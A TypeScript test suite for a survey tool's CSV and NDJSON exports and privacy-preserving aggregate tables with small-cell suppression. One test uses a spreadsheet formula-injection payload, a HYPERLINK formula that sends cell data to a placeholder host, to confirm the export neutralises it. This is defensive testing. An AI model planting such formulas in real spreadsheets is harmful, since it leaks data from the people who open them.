import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { createEngine, parseInstrument } from '../../src/engine/index.js';
import { aggregate, csvLines, ExportError, ndjsonLines, suppression, toCsv, toNdjson, type Aggregate, type Cell } from '../../src/export/index.js';
import type { Instrument, Result } from '../../src/schema/index.js';
import { fillAll, type FillOptions } from '../support/fill.js';
import { sampleInstrument } from './fixtures.js';

const load = (id: string): Instrument => {
  const parsed = parseInstrument(JSON.parse(readFileSync(new URL(`../../schemas/instruments/${id}.json`, import.meta.url), 'utf8')));
  if (!parsed.ok) throw new Error(id);
  return parsed.value;
};
const filled = (instrument: Instrument, options: FillOptions = {}): Result => {
  const engine = createEngine(instrument);
  fillAll(engine, { varied: true, ...options });
  return engine.toResult();
};

/** A small RFC 4180 reader (quoted cells, doubled quotes, CRLF inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  return rows;
}
const csvObjects = (text: string) => {
  const [header, ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])));
};

describe('CSV and NDJSON exports', () => {
  for (const id of ['ces', 'needs-grid', 'pin-grid']) {
    it(`${id}: two filled results give the same rows in CSV and NDJSON, one per answer and voice`, async () => {
      const instrument = load(id);
      const results = [filled(instrument), filled(instrument, { shift: 1 })];
      const csv = toCsv(instrument, results);
      const ndjson = toNdjson(instrument, results);
      const fromJson = ndjson.trimEnd().split('\n').map((l) => JSON.parse(l));
      assert.ok(fromJson.length > 20);
      assert.deepEqual(csvObjects(csv), fromJson);
      assert.deepEqual(new Set(fromJson.map((r) => r.record)), new Set(['0', '1']));
      assert.ok(fromJson.every((r) => r.instrument_id === id && r.instrument_version === instrument.version && r.session_date === '2026-03-01'));
      // The streaming forms give the same text.
      let streamed = '';
      for await (const line of csvLines(instrument, results)) streamed += line;
      assert.equal(streamed, csv);
      streamed = '';
      for await (const line of ndjsonLines(instrument, (async function* () { yield* results; })())) streamed += line;
      assert.equal(streamed, ndjson);
    });
  }

  it('voices: an item with perspectives gives one row per voice', () => {
    const instrument = load('ces');
    const voiced = instrument.sections.flatMap(function walk(s): NonNullable<typeof s.items> {
      return [...(s.items ?? []), ...(s.sections ?? []).flatMap(walk)];
    }).find((i) => i.perspectives);
    assert.ok(voiced, 'the CÉS has an item with voices');
    const rows = toNdjson(instrument, [filled(instrument)]).trimEnd().split('\n').map((l) => JSON.parse(l));
    assert.deepEqual(rows.filter((r) => r.item_id === voiced.id).map((r) => r.voice).sort(), [...voiced.perspectives!].sort());
  });

  it('a multiple choice gives one row per selected code; voices, numbers and dates their own rows', () => {
    const instrument = sampleInstrument();
    const engine = createEngine(instrument);
    engine.setAgeBand('child');
    engine.setSession({ date: '2026-02-03' });
    engine.setAnswer('a8', ['high', 'low']);
    engine.setAnswer('a9', 'mid', { perspective: 'child' });
    engine.setAnswer('a9', 'low', { perspective: 'worker' });
    engine.setAnswer('a5', 0);
    engine.setAnswer('a6', '2026-01-31');
    const rows = toNdjson(instrument, [engine.toResult()], { locale: 'en' }).trimEnd().split('\n').map((l) => JSON.parse(l));
    const pick = (id: string) => rows.filter((r) => r.item_id === id).map((r) => [r.voice, r.value, r.label]);
    assert.deepEqual(pick('a8'), [['', 'high', 'High'], ['', 'low', 'Low']]);
    assert.deepEqual(pick('a9'), [['child', 'mid', 'Medium'], ['worker', 'low', 'Low']]);
    assert.deepEqual(pick('a5'), [['', '0', '']]);
    assert.deepEqual(pick('a6'), [['', '2026-01-31', '']]);
    assert.ok(rows.every((r) => r.section_id === 'a' && r.session_date === '2026-02-03'));
    const table = aggregate(instrument, Array(5).fill(engine.toResult()), { minCell: 1 }).groups[0]!.sections.find((t) => t.section === 'a' && t.scale === 'level')!;
    assert.deepEqual(table.rows.filter((r) => r.item === 'a8' || r.item === 'a9').map((r) => [r.item, r.voice, r.counts.high, r.counts.low, r.total]), [
      ['a8', '', 5, 5, 10],
      ['a9', 'child', null, null, 5],
      ['a9', 'worker', null, 5, 5],
    ]);
  });

  it('a formula typed in a text answer comes out inert in CSV, kept as typed in NDJSON', () => {
    const instrument = load('needs-grid');
    const payload = '=HYPERLINK("http://x.invalid/?"&A1,"clic")';
    const result = filled(instrument, { text: payload });
    const csv = toCsv(instrument, [result]);
    const cells = parseCsv(csv).flat();
    assert.ok(cells.includes(`'${payload}`), 'the payload is prefixed with a quote');
    assert.ok(!cells.some((c) => /^[=+\-@\t\r]/.test(c)), 'no cell starts a formula');
    assert.ok(toNdjson(instrument, [result]).includes(JSON.stringify(payload).slice(1, -1)));
    for (const start of ['+1', '-1', '@SUM(A1)', '\tx', '\rx']) {
      const one = parseCsv(toCsv(instrument, [filled(instrument, { text: start })])).flat();
      assert.ok(one.includes(`'${start}`), JSON.stringify(start));
    }
  });

  it('commas, quotes and line breaks are quoted as RFC 4180 says and read back intact', () => {
    const instrument = load('needs-grid');
    const text = 'Il a dit "oui", puis\r\nnon,\nsans doute';
    const csv = toCsv(instrument, [filled(instrument, { text })]);
    assert.ok(csv.includes('"Il a dit ""oui"", puis\r\nnon,\nsans doute"'));
    assert.ok(csvObjects(csv).some((r) => r.value === text));
  });

  it('labels follow the chosen locale (French by default)', () => {
    const instrument = load('pin-grid');
    const result = filled(instrument);
    const fr = csvObjects(toCsv(instrument, [result]));
    const en = csvObjects(toCsv(instrument, [result], { locale: 'en' }));
    const scale = instrument.scales![0]!;
    const option = scale.options.find((o) => o.code === fr[0]!.value)!;
    assert.equal(fr[0]!.label, option.label.fr);
    assert.equal(en[0]!.label, option.label.en);
    assert.notEqual(fr[0]!.label, en[0]!.label);
  });

  it('comments only when asked for', () => {
    const instrument = load('needs-grid');
    const engine = createEngine(instrument);
    fillAll(engine);
    const item = engine.model.items.find((i) => i.comment && engine.isVisible(i.id) && !i.perspectives);
    assert.ok(item, 'an item that takes a comment');
    engine.setComment(item.id, 'Nom de la voisine: Mme Tremblay');
    const result = engine.toResult();
    assert.ok(!toCsv(instrument, [result]).includes('Tremblay'));
    assert.ok(!toCsv(instrument, [result]).split('\r\n')[0]!.includes('comment'));
    assert.ok(!toNdjson(instrument, [result]).includes('Tremblay'));
    const withComments = csvObjects(toCsv(instrument, [result], { comments: true }));
    assert.equal(withComments.find((r) => r.item_id === item.id)!.comment, 'Nom de la voisine: Mme Tremblay');
  });

  it('the host record id replaces the index', () => {
    const instrument = load('pin-grid');
    const rows = csvObjects(toCsv(instrument, [filled(instrument)], { recordId: (_r, i) => `DOS-${i + 100}` }));
    assert.ok(rows.every((r) => r.record === 'DOS-100'));
  });

  it('an unreadable result is named by its index, or skipped and reported', () => {
    const instrument = load('pin-grid');
    const good = filled(instrument);
    const bad = { ...good, answers: { 'pin.ecosystemic.targeted': { value: 3, extra: true } } };
    assert.throws(() => toCsv(instrument, [good, good, bad]), (e: unknown) => e instanceof ExportError && e.index === 2 && /^result 2: answers/.test(e.message));
    const newer = { ...good, instrument: { id: 'pin-grid', version: '9.0.0' } };
    assert.throws(() => toCsv(instrument, [good, newer]), /result 1: version-mismatch/, 'the engine\'s version policy applies');
    const other = { ...good, instrument: { id: 'ces', version: '1.0.0' } };
    assert.throws(() => toNdjson(instrument, [other]), /result 0: instrument-mismatch/);
    const reported: number[] = [];
    const csv = toCsv(instrument, [bad, good], { onInvalid: (e) => reported.push(e.index) });
    assert.deepEqual(reported, [0]);
    assert.ok(csvObjects(csv).every((r) => r.record === '1'));
  });
});

/** Every row and column of every table (with its total) has zero or at least two suppressed cells. */
function lineProblems(a: Aggregate): string[] {
  const problems: string[] = [];
  const check = (name: string, cells: Cell[]) => {
    if (cells.filter((c) => c === null).length === 1) problems.push(`${name}: one suppressed cell`);
    for (const c of cells) if (c !== null && c < a.minCell) problems.push(`${name}: ${c} published`);
  };
  for (const g of a.groups) {
    for (const t of [...g.sections, ...g.tallies]) {
      const levels = 'levels' in t ? t.levels : t.statuses;
      const name = 'section' in t ? `${t.section}/${t.scale}` : t.tally;
      t.rows.forEach((r, i) => check(`${name} row ${i}`, [...levels.map((l) => r.counts[l]!), r.total]));
      levels.forEach((l) => check(`${name} column ${l}`, [...t.rows.map((r) => r.counts[l]!), t.totals[l]!]));
      check(`${name} totals`, [...t.rows.map((r) => r.total), t.total]);
    }
  }
  return problems;
}

/** The same lines on a bare matrix (totals in the last row and column). */
function matrixProblems(matrix: number[][], hidden: boolean[][], minCell: number): string[] {
  const problems: string[] = [];
  const lines = [...matrix.map((row, i) => row.map((_, j) => [i, j] as const)), ...matrix[0]!.map((_, j) => matrix.map((_, i) => [i, j] as const))];
  for (const line of lines) {
    if (line.filter(([i, j]) => hidden[i]![j]).length === 1) problems.push(`line ${JSON.stringify(line)}`);
    for (const [i, j] of line) if (!hidden[i]![j] && matrix[i]![j]! < minCell) problems.push(`${matrix[i]![j]} published`);
  }
  return problems;
}

const withTotals = (inner: number[][]): number[][] => {
  const rows = inner.map((r) => [...r, r.reduce((a, b) => a + b, 0)]);
  return [...rows, rows[0]!.map((_, j) => rows.reduce((a, r) => a + r[j]!, 0))];
};

describe('aggregate', () => {
  it('property: no published cell under minCell and no row or column with exactly one suppressed cell', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 6 }).chain((w) => fc.array(fc.array(fc.nat({ max: 30 }), { minLength: w, maxLength: w }), { minLength: 1, maxLength: 6 })),
        fc.integer({ min: 1, max: 10 }),
        (inner, minCell) => {
          const matrix = withTotals(inner);
          assert.deepEqual(matrixProblems(matrix, suppression(matrix, minCell), minCell), []);
        },
      ),
      { numRuns: 400 },
    );
  });

  it('a planted bug (primary suppression only) breaks the property', () => {
    const primaryOnly = (m: number[][], k: number) => m.map((r) => r.map((n) => n < k));
    const found = fc.check(
      fc.property(fc.array(fc.array(fc.nat({ max: 30 }), { minLength: 3, maxLength: 3 }), { minLength: 2, maxLength: 4 }), (inner) => {
        const matrix = withTotals(inner);
        return matrixProblems(matrix, primaryOnly(matrix, 5), 5).length === 0;
      }),
    );
    assert.equal(found.failed, true);
  });

  it('four results give no count under 5, and carry no subject id, territory, name, date or text', () => {
    for (const id of ['ces', 'needs-grid', 'pin-grid']) {
      const instrument = load(id);
      const results = [0, 1, 2, 3].map((shift) => filled(instrument, { shift, text: 'Texte libre secret' }));
      const a = aggregate(instrument, results);
      const text = JSON.stringify(a);
      for (const secret of ['ENF-0001', 'RLS Nord', 'Lou', 'CLSC', '2026-03-01', 'Texte libre secret']) assert.ok(!text.includes(secret), `${id}: ${secret}`);
      const numbers: number[] = [];
      JSON.stringify(a.groups, (_k, v) => (typeof v === 'number' && numbers.push(v), v));
      assert.deepEqual(numbers.filter((n) => n < 5), [], id);
      assert.equal(a.groups[0]!.results, null);
    }
  });

  it('many results: counts match, every table obeys the rule, groups by territory only when asked', () => {
    const instrument = load('pin-grid');
    const results = Array.from({ length: 40 }, (_, i) =>
      filled(instrument, { shift: i % 7 === 0 ? 1 : i % 3, session: { territory: i % 2 ? 'RLS Nord' : 'RLS Sud' } }),
    );
    const a = aggregate(instrument, results);
    assert.equal(a.groups.length, 1);
    assert.equal(a.groups[0]!.results, 40);
    assert.deepEqual(lineProblems(a), []);
    const published = a.groups[0]!.sections.flatMap((t) => t.rows.flatMap((r) => Object.values(r.counts))).filter((c) => c !== null);
    assert.ok(published.length > 10, 'most counts are published');
    const grouped = aggregate(instrument, results, { groupBy: ['territory'], minCell: 3 });
    assert.deepEqual(grouped.groups.map((g) => g.key), [{ territory: 'RLS Nord' }, { territory: 'RLS Sud' }]);
    assert.deepEqual(lineProblems(grouped), []);
    assert.ok(!JSON.stringify(a).includes('RLS'));
  });
});
